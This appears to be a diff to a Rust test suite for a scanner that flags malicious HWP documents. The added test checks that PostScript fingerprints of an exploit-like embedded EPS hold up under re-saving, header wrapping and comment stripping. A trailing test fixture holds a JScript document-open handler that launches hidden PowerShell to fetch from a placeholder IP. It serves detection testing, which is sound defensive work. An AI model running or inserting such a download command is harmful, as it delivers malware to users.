@@ -141,6 +141,77 @@ fn eps_with_exploit_traits_is_critical() {
     assert!(!n.has("hwp.eps_exploit"));
 }
 
+/// The fingerprints of the tree's object named `*name`.
+fn fingerprints_of(n: &Node, name: &str) -> Vec<crate::Fingerprint> {
+    n.iter()
+        .find(|c| c.name.ends_with(name))
+        .unwrap_or_else(|| {
+            panic!(
+                "no {name} in {:?}",
+                n.iter().map(|c| &c.name).collect::<Vec<_>>()
+            )
+        })
+        .fingerprints
+        .clone()
+}
+
+#[test]
+fn postscript_fingerprint_survives_comments_spacing_and_the_binary_header() {
+    let eps = super::eps::tests::exploit_like();
+    // Re-saved: other DSC comments, CRLF line endings, indentation; then wrapped in a DOS EPS binary
+    // header with a preview image after the PostScript.
+    let text = String::from_utf8(eps.clone()).unwrap();
+    let resaved = text
+        .replace("%%BoundingBox: 0 0 100 100\n", "%%Creator: Adobe Illustrator\n%%CreationDate: 2026-11-24\n%%BoundingBox: 0 0 100 100\n")
+        .replace("\n", "\r\n  ");
+    let mut dos = vec![0xC5, 0xD0, 0xD3, 0xC6];
+    let ps_len = resaved.len() as u32;
+    for v in [30u32, ps_len, 0, 0, 30 + ps_len, 16] {
+        dos.extend_from_slice(&v.to_le_bytes());
+    }
+    dos.extend_from_slice(&[0xFF, 0xFF]);
+    dos.extend_from_slice(resaved.as_bytes());
+    dos.extend_from_slice(b"II*\0preview-bytes");
+    // No comment lines at all, so no `%!PS` magic: EPS only by its BinData extension.
+    let bare: String = text
+        .lines()
+        .filter(|l| !l.starts_with('%'))
+        .collect::<Vec<_>>()
+        .join("\n");
+    assert!(!bare.starts_with("%!PS"));
+
+    let doc = hwp5(
+        bit::COMPRESSED,
+        &[
+            (
+                "/DocInfo",
+                docinfo(&[
+                    embedded(1, "eps", false),
+                    embedded(2, "eps", false),
+                    embedded(3, "eps", false),
+                ]),
+            ),
+            ("/BodyText/Section0", paragraph("보도자료")),
+            ("/BinData/BIN0001.eps", eps.clone()),
+            ("/BinData/BIN0002.eps", dos.clone()),
+            ("/BinData/BIN0003.eps", bare.into_bytes()),
+        ],
+    );
+    let n = run(&doc, "a.hwp");
+    let one = fingerprints_of(&n, "BIN0001.eps");
+    assert_eq!(one.len(), 1, "{one:?}");
+    assert_eq!(one[0].kind, crate::FingerprintKind::PostScript);
+    assert_eq!(fingerprints_of(&n, "BIN0002.eps"), one);
+    assert_eq!(fingerprints_of(&n, "BIN0003.eps"), one);
+    // A standalone EPS attachment gets the same fingerprint; another program does not.
+    let alone = run(&dos, "figure.eps");
+    assert_eq!(alone.detected_type, crate::Kind::PostScript);
+    assert_eq!(alone.fingerprints, one);
+    let other = run(&super::eps::tests::plain(), "figure.eps");
+    assert_eq!(other.fingerprints.len(), 1);
+    assert_ne!(other.fingerprints, one);
+}
+
 #[test]
 fn document_script_with_activex_is_critical() {
     let src = "function OnDocument_Open()\r\n{\r\n  var s = new ActiveXObject(\"WScript.Shell\");\r\n  s.Run(\"powershell -w hidden -c iwr http://203.0.113.5/a\");\r\n}\r\n";
